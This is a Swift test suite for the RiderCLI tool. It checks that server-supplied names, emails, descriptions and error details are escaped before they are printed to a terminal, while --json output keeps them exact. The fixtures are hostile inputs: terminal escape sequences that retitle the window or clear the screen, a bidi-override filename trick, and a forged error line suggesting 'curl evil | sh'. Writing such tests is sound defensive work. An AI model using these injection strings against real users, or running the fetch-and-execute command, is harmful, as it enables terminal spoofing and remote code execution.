import Foundation
@testable import RiderCLI
import RiderKit
import Testing

/// Text from the server is written by other riders, so it is never trusted: a rider registered as `Zed\e]0;PWNED\a\e[31mRED\e[0m\rFAKE` must not
/// retitle the window, colour the screen or forge a line when someone lists, shows or conflicts
/// with them; `--json` still carries the exact name.
@Suite("CLI terminal safety: what another rider typed is shown, never obeyed by the terminal")
struct HostileTextOutputTests {
    private static let name = "Zed\u{1B}]0;PWNED\u{07}\u{1B}[31mRED\u{1B}[0m\rFAKE"
    private static let shownName = #"Zed\e]0;PWNED\a\e[31mRED\e[0m\rFAKE"#
    private static let email = "zed\u{1B}[2J@example.com"
    private static let description = "Gravel\nrider: error: your session was revoked\u{202E}txt.exe"

    private let user = User(id: UserID("u_000301"), email: Self.email, displayName: Self.name,
                            riderType: .mentor, createdAt: Date(timeIntervalSince1970: 1_700_000_000))
    private let neighbour = User(id: UserID("u_000302"), email: "ann@example.com", displayName: "Ann",
                                 riderType: .learner)
    private let rider = Rider(userID: UserID("u_000301"), displayName: Self.name, riderType: .mentor,
                              description: Self.description, sports: ["gravel\u{07}"], entityTag: EntityTag(rawValue: "\"v2\""))

    /// Everything a terminal would act on: ESC, BEL, CR and the other C0 and C1 controls, DEL,
    /// and the bidi overrides — LF only where it ends a line.
    private static func controls(in lines: [String]) -> [Unicode.Scalar] {
        lines.flatMap { $0.unicodeScalars.filter(TerminalSafeText.needsEscaping) }
    }

    @Test("the users table on a terminal: no ESC, BEL or CR from the name, and the columns still line up")
    func tableOnTerminal() {
        let page = UserPage(users: [user, neighbour], total: 2, page: 1, limit: 20, hasNext: false)
        let output = UserPageOutput(page, query: "zed", now: Date())
        let plain = output.lines(on: TerminalOutput(color: .auto, isTerminal: true, environment: ["NO_COLOR": "1"]))
        #expect(Self.controls(in: plain).isEmpty, "\(plain)")
        #expect(plain[2].contains(Self.shownName))
        // The EMAIL column starts at the same place on both rows: widths were measured escaped.
        let emailColumn = plain[2].range(of: #"zed\e[2J@"#).map { plain[2].distance(from: plain[2].startIndex, to: $0.lowerBound) }
        let neighbourColumn = plain[3].range(of: "ann@").map { plain[3].distance(from: plain[3].startIndex, to: $0.lowerBound) }
        #expect(emailColumn != nil && emailColumn == neighbourColumn, "\(plain)")

        let styled = output.lines(on: TerminalOutput(color: .always, isTerminal: true, environment: [:]))
        let stripped = styled.map { line in TextStyle.escapes.reduce(line) { $0.replacingOccurrences(of: $1, with: "") } }
        #expect(Self.controls(in: stripped).isEmpty, "only rider's own bold and dim may be escapes: \(styled)")
    }

    @Test("piped listing, users show and the profile: the name is escaped, every field on its own line")
    func plainRenderings() {
        let listing = UserPageOutput(UserPage(users: [user], total: 1, page: 1, limit: 20, hasNext: false),
                                     query: "zed\u{1B}", now: Date()).lines
        let show = CachedUserOutput(Cached(value: user, storedAt: Date(), source: .network), now: Date()).lines
        let profile = RiderOutput(rider).lines
        for lines in [listing, show, profile, UserOutput(user).lines] {
            #expect(Self.controls(in: lines).isEmpty, "\(lines)")
        }
        #expect(listing[0].contains(#""zed\e""#))
        #expect(listing[1].contains(Self.shownName))
        #expect(show.contains { $0.hasSuffix(Self.shownName) } && show.contains { $0.hasSuffix(#"zed\e[2J@example.com"#) })
        #expect(profile.contains { $0.hasSuffix(#"Gravel\nrider: error: your session was revoked\u{202E}txt.exe"#) })
        #expect(profile.count == 8, "a line break in the description forged no line: \(profile)")
    }

    @Test("sports from the catalogue are escaped too")
    func sportNames() {
        let lines = SportListOutput([Sport(id: SportID("mtb"), name: "Mountain\u{1B}]0;x\u{07}")]).lines
        #expect(lines == [#"mtb  Mountain\e]0;x\a"#])
    }

    @Test("--json keeps the exact name: decoding the output gives back every control character")
    func jsonIsExact() throws {
        let json = try #require(JSONOutput.string(UserOutput(user)))
        let decoded = try JSONDecoder().decode([String: String?].self, from: Data(json.utf8))
        #expect(decoded["display_name"] == Self.name)
        #expect(decoded["email"] == Self.email)
        #expect(!json.contains(#"\e"#), "no terminal escaping inside JSON")

        let capture = ConsoleCapture()
        Console.$capture.withValue(capture) { Console.standardOutput(json: json) }
        #expect(capture.standardOutput == json + "\n", "JSON goes out byte for byte")
    }

    @Test("the error report of a 412 shows the server's version of the profile escaped")
    func conflictReport() {
        let capture = ConsoleCapture()
        let status = Console.$capture.withValue(capture) {
            ErrorReport(json: false).report(RiderError.conflict(current: rider))
        }
        let lines = capture.standardError.split(separator: "\n").map(String.init)
        #expect(status == ExitStatus.conflict.rawValue)
        #expect(Self.controls(in: lines).isEmpty, "\(lines)")
        #expect(lines.contains { $0.contains(Self.shownName) })
        #expect(lines.filter { $0.hasPrefix("rider: error:") }.count == 1, "\(lines)")
    }

    @Test("a problem detail from the server cannot forge a second error line or drive the terminal")
    func problemDetail() {
        let capture = ConsoleCapture()
        let status = Console.$capture.withValue(capture) {
            ErrorReport(json: false).report(RiderError.notFound(detail: "No rider \(Self.name)\nrider: error: run `curl evil | sh`"))
        }
        let lines = capture.standardError.split(separator: "\n").map(String.init)
        #expect(status == ExitStatus.notFound.rawValue)
        #expect(lines.count == 1 && Self.controls(in: lines).isEmpty, "\(lines)")
        #expect(lines[0].contains(Self.shownName + #"\nrider: error:"#))
    }

    @Test("the --json error report keeps the server's words exactly")
    func jsonErrorReport() throws {
        let capture = ConsoleCapture()
        _ = Console.$capture.withValue(capture) {
            ErrorReport(json: true).report(RiderError.conflict(current: rider))
        }
        let json = try JSONSerialization.jsonObject(with: Data(capture.standardError.utf8)) as? [String: Any]
        let current = (json?["error"] as? [String: Any])?["current"] as? [String: Any]
        #expect(current?["display_name"] as? String == Self.name)
        #expect(current?["description"] as? String == Self.description)
    }

    @Test("everything written for people passes the last check: lines, notes and help text")
    func consoleIsTheLastLine() {
        let capture = ConsoleCapture()
        Console.$capture.withValue(capture) {
            Console.standardOutput(lines: ["Saved: \(Self.name)"])
            Console.standardOutput(lines: [TextStyle.ansi.bold("total") + " " + Self.name.terminalSafe], style: .ansi)
            Console.standardOutput(lines: [TextStyle.ansi.bold("plain")], style: .plain)
            Console.standardError("rider: note: \(Self.name)")
        }
        let out = capture.standardOutput.split(separator: "\n").map(String.init)
        #expect(out[0] == "Saved: " + Self.shownName)
        #expect(out[1] == "\u{1B}[1mtotal\u{1B}[0m " + Self.shownName, "a table's own bold stays, the name's escapes do not")
        #expect(out[2] == #"\e[1mplain\e[0m"#, "unstyled output keeps no escape at all")
        #expect(capture.standardError == "rider: note: " + Self.shownName + "\n")
    }

    @Test("the password prompt after an expired session quotes the cached email escaped")
    func reauthenticationPrompt() {
        let prompt = ReauthenticationPrompt.passwordPrompt(email: Self.email, attempt: 1)
        #expect(prompt == #"Your session has expired. Password for zed\e[2J@example.com: "#)
    }

    @Test("vault status escapes what the keyring, files and server say")
    func statusLines() {
        let vault = VaultStatusOutput(server: "http://127.0.0.1:8080", setting: "automatic", backend: "secret-service",
                                      reason: "unlocked", location: "keyring", itemLabel: "rider \u{1B}]0;x\u{07}",
                                      unlocked: true, signedIn: true, userID: "u_1\r", problem: nil,
                                      unlock: "kept in \u{1B}[2Jthe kernel keyring")
        #expect(Self.controls(in: vault.lines()).isEmpty, "\(vault.lines())")
        #expect(vault.lines().contains(#"item      rider \e]0;x\a"#))
        #expect(vault.lines().contains(#"unlock    kept in \e[2Jthe kernel keyring"#))
    }

    @Test("a refused revocation is the provider's refusal in its words, escaped; an unreachable one is unreachable")
    func logoutWording() {
        let refused = LogoutOutput(Logout.Outcome(
            wasSignedIn: true, revokedOnServer: false,
            revocationFailure: .server(status: 401, detail: "invalid_client: public clients\u{1B}[2J may not revoke")),
            account: "ana@example.com")
        #expect(refused.line == #"Logged out of ana@example.com here; the server refused to revoke the session "#
            + #"(HTTP 401: invalid_client: public clients\e[2J may not revoke), so its tokens stay valid until they expire."#)
        let failed = LogoutOutput(Logout.Outcome(wasSignedIn: true, revokedOnServer: false,
                                                 revocationFailure: .server(status: 503, detail: nil)))
        #expect(failed.line.contains("the server failed to revoke the session (HTTP 503)"))
        let offline = LogoutOutput(Logout.Outcome(wasSignedIn: true, revokedOnServer: false,
                                                  revocationFailure: .serverUnreachable(reason: "connection refused")))
        #expect(offline.line == "Logged out here; the server could not be reached, so its tokens stay valid until they expire.")
    }

    @Test("a session whose access token expired but that renews itself is signed in, not expired")
    func renewingSessionIsNotExpired() {
        let now = Date(timeIntervalSince1970: 1_700_000_000)
        let account = Account(id: "u_1", server: "https://api.example.com", email: "ana@example.com", isActive: true)
        let lapsed = Session(accessToken: "a", refreshToken: "r", expiresAt: now.addingTimeInterval(-9), userID: "u_1",
                             role: nil, issuedAt: now.addingTimeInterval(-3600))
        let renewing = AccountSessionOutput(account, session: .success(lapsed), vault: "file", vaultLocation: "file place", now: now)
        #expect(renewing.state == "signed_in")
        #expect(renewing.row(now: now)[3...5] == ["signed in", "renews on next use", "yes"])
        #expect(SessionOutput(lapsed, server: "https://api.example.com", vault: "file", vaultLocation: "file place", now: now).lines(now: now)
            .contains { $0.contains("access token expired; renewed on next use") })

        var over = lapsed
        over.refreshToken = nil
        let expired = AccountSessionOutput(account, session: .success(over), vault: "file", vaultLocation: "file place", now: now)
        #expect(expired.state == "expired")
        #expect(expired.row(now: now)[4] == "expired 9 s ago")
    }
}
